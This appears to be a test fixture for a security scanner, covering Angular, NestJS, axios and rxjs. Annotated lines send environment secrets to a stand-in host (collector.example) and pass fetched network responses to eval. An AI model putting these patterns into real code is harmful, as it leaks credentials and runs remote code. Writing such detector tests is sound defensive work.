// Clients that frameworks hand to whoever asks for one: Angular, Nest.
import { HttpClient, HttpHeaders, HttpParams } from "@angular/common/http";
import { HttpService } from "@nestjs/axios";
import axios from "axios";
import * as rxjs from "rxjs";
import { firstValueFrom } from "rxjs";

const U = "https://collector.example/u";
const http = new HttpClient();
const service = new HttpService();

export function sent() {
  http.post("https://ng.collector.example", process.env.T); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://ng.collector.example")
  http.post(U, "ping"); //~ ok
  http.get(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2, capability(NETWORK)
  http.get(U); //~ ok
  http.request("POST", U, { body: process.env.T }); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3, capability(NETWORK)
  http.request("POST", U, { body: "ping" }); //~ ok
}

export function beside() {
  http.post(U, "ping", { headers: new HttpHeaders({ "x-t": process.env.T }) }); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
  http.get(U, { params: new HttpParams().set("t", process.env.T) }); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
  http.get(U, { params: new HttpParams().set("t", "ping") }); //~ ok
}

export function run() {
  http.get(U).subscribe((data) => eval(data)); //~ source(NETWORK) f6, sink(exec.code) f6, finding(traced) f6
  http.post(U, 1).subscribe((data) => eval(data)); //~ source(NETWORK) f7, sink(exec.code) f7, finding(traced) f7
  http.request("GET", U).subscribe((data) => eval(data)); //~ source(NETWORK) f8, sink(exec.code) f8, finding(traced) f8
}

export async function watched() {
  http.get(U).pipe(1).subscribe({ next: (data) => eval(data) }); //~ source(NETWORK) f10, sink(exec.code) f10, finding(traced) f10
  eval(await firstValueFrom(http.get(U))); //~ source(NETWORK) f11, sink(exec.code) f11, finding(traced) f11
  http.get(U).pipe(1).subscribe({ next: () => eval("1") }); //~ ok
  eval("x" + ((await firstValueFrom(http.get(U))) === null)); //~ ok
}

export function nest() {
  service.post(U, process.env.T); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
  service.post(U, "ping"); //~ ok
}

function observed(subject) {
  const news = new rxjs.Subject();
  news.pipe(rxjs.map((x) => x), rxjs.tap((x) => eval(x))).subscribe(); //~ sink(exec.code) frx, finding(ambiguous) frx
  news.next(axios.get("/code").data); //~ source(NETWORK) frx
  new rxjs.Subject().pipe(rxjs.map(() => eval("1"))).subscribe(); //~ ok
  news.next("next"); //~ ok
}
